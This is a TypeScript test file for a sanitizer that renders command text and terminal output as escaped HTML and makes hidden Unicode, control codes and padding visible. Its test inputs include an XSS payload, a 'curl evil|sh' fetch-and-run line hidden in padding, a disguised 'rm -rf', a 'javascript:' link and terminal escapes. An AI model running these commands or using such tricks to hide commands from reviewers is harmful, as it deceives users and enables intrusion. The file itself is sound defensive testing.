import assert from 'node:assert/strict'
import { test } from 'node:test'
import { exact, output, prose, unusual } from '../../../central/console/visible.ts'

const loud = (token: string) => `<span class="visible">${token}</span>`
const calm = (token: string) => `<span class="visible plain">${token}</span>`

/** What hides, the text, and its HTML. */
const EXACT: readonly [what: string, text: string, html: string][] = [
  ['plain text is itself', 'systemctl restart nginx', 'systemctl restart nginx'],
  ['HTML is text', '<img src=x onerror=alert(1)>&"\'', '&#60;img src&#61;x onerror&#61;alert(1)&#62;&#38;&#34;&#39;'],
  ['right-to-left override', 'rm \u202efig.txt', `rm ${loud('\\u{202e}')}fig.txt`],
  ['isolate and pop', '\u2066a\u2069', `${loud('\\u{2066}')}a${loud('\\u{2069}')}`],
  ['zero width space', 'ls\u200b/tmp', `ls${loud('\\u{200b}')}/tmp`],
  ['zero width joiner, twice', 'a\u200d\u200db', `a${loud('\\u{200d×2}')}b`],
  ['byte order mark', '\ufeffls', `${loud('\\u{feff}')}ls`],
  ['soft hyphen', 'rm\u00ad-rf', `rm${loud('\\u{ad}')}-rf`],
  ['tag characters', 'ls\u{e0041}', `ls${loud('\\u{e0041}')}`],
  ['look-alike quotes', '\u201cx\u201d', `${loud('\\u{201c}')}x${loud('\\u{201d}')}`],
  ['look-alike letter: Cyrillic a', 'c\u0430t', `c${loud('\\u{430}')}t`],
  ['look-alike hyphen and slash', '\u2010f \u2215etc', `${loud('\\u{2010}')}f ${loud('\\u{2215}')}etc`],
  ['no-break space', 'ls\u00a0-l', `ls${loud('\\u{a0}')}-l`],
  ['line separator', 'ls\u2028id', `ls${loud('\\u{2028}')}id`],
  ['carriage return hides what came before', 'rm x\rls', `rm x${loud('\\u{d}')}ls`],
  ['escape sequence', '\u001b[2Kls', `${loud('\\u{1b}')}[2Kls`],
  ['backspace and delete', 'a\b\u007f', `a${loud('\\u{8}')}${loud('\\u{7f}')}`],
  ['nul', 'a\0b', `a${loud('\\u{0}')}b`],
  ['C1 control', 'a\u009bb', `a${loud('\\u{9b}')}b`],
  ['lone surrogate', 'a\ud800b', `a${loud('\\u{d800}')}b`],
  ['beyond the basic plane', 'a\u{1f600}', `a${loud('\\u{1f600}')}`],
  ['a line end is a token and ends the line', 'ls\nid', `ls${calm('\\u{a}')}\nid`],
  ['tab', 'a\tb', `a${calm('\\u{9}')}b`],
  ['trailing spaces', 'ls  ', `ls${calm('\\u{20×2}')}`],
  ['one trailing space before a line end', 'ls \nid', `ls${calm('\\u{20}')}${calm('\\u{a}')}\nid`],
  ['spaces between words stay', 'a b   c', 'a b   c'],
  ['10 kB of padding', `ls${' '.repeat(10_240)}; rm x`, `ls${calm('\\u{20×10240}')}; rm x`],
  ['padding with lines', `ls${'\n'.repeat(500)}rm x`, `ls${calm('\\u{a×500}')}\nrm x`],
  ['a token typed by hand is told from a real one', '\\u{202e}', `${loud('\\u{5c}')}u{202e}`],
  ['so is a count', '\u202e×2', `${loud('\\u{202e}')}${loud('\\u{d7}')}2`],
  ['digits after a count are not part of it', `${' '.repeat(8)}0`, `${calm('\\u{20×8}')}0`],
  ['other backslashes stay', 'grep -E "\\d\\u0041"', 'grep -E &#34;\\d\\u0041&#34;'],
  ['markdown is text', '[ok](javascript:x) **safe**', '[ok](javascript:x) **safe**'],
]

for (const [what, text, expected] of EXACT) test(`exact: ${what}`, () => assert.equal(exact(text), expected))

test('exact loses nothing: the text can be read back from what is shown', () => {
  const decode = (shown: string) =>
    shown
      .replaceAll(/<span class="visible[^"]*">\\u\{([0-9a-f]+)(?:×(\d+))?\}<\/span>(\n?)/g, (_all, hex, count) =>
        String.fromCodePoint(Number.parseInt(hex, 16)).repeat(Number(count ?? 1)),
      )
      .replaceAll(/&#(\d+);/g, (_all, code) => String.fromCharCode(Number(code)))
  for (const [, text] of EXACT) assert.equal(decode(exact(text)), text)
})

test('exact shows the middle of a long text', () => {
  const text = `${'a'.repeat(20_000)};curl evil|sh;${'b'.repeat(20_000)}`
  assert.equal(exact(text), text)
})

test('unusual counts what is neither printable ASCII nor a line end or tab', () => {
  assert.equal(unusual('ls -l\n\tid'), 0)
  assert.equal(unusual('l\u200bs \u{1f600}\u202e'), 3)
})

const PROSE: readonly [what: string, text: string, html: string][] = [
  ['letters of other languages stay', 'Größe, 再起動, שלום', '<bdi>Größe, 再起動, שלום</bdi>'],
  ['HTML is text', '<b>x</b>', '<bdi>&#60;b&#62;x&#60;/b&#62;</bdi>'],
  ['bidi marks do not act', 'a\u202eb', `<bdi>a${loud('\\u{202e}')}b</bdi>`],
  ['zero width', 'a\u200bb', `<bdi>a${loud('\\u{200b}')}b</bdi>`],
  ['an invisible letter', 'a\u3164b', `<bdi>a${loud('\\u{3164}')}b</bdi>`],
  ['two marks on a letter stay, more do not', 'a\u0301\u0302\u0303', `<bdi>a\u0301\u0302${loud('\\u{303}')}</bdi>`],
  ['a forged token', '\\u{41}', `<bdi>${loud('\\u{5c}')}u{41}</bdi>`],
]

for (const [what, text, expected] of PROSE) test(`prose: ${what}`, () => assert.equal(prose(text), expected))

test('prose says what it leaves out', () => {
  assert.equal(prose('abcdef', 4), '<bdi>abcd</bdi> <span class="muted">[2 more characters not shown]</span>')
  assert.equal(prose('\u{1f600}\u{1f600}', 2), '<bdi>\u{1f600}\u{1f600}</bdi>')
})

test('exact says what it leaves out, where a limit is given', () => {
  assert.equal(
    exact('ls \u202ex; id', 5),
    `ls ${loud('\\u{202e}')}x <span class="muted">[4 more characters not shown]</span>`,
  )
})

test('output leaves out colours, and nothing else that a terminal would obey', () => {
  assert.equal(output('\u001b[1;31mred\u001b[0m\r\n\u001b[2J'), `red\n${loud('\\u{1b}')}[2J`)
})

test('output keeps lines and neutralises terminal escapes', () => {
  assert.equal(output('a\n\tb\u001b]0;x\u0007'), `a\n\tb${loud('\\u{1b}')}]0;x${loud('\\u{7}')}`)
})
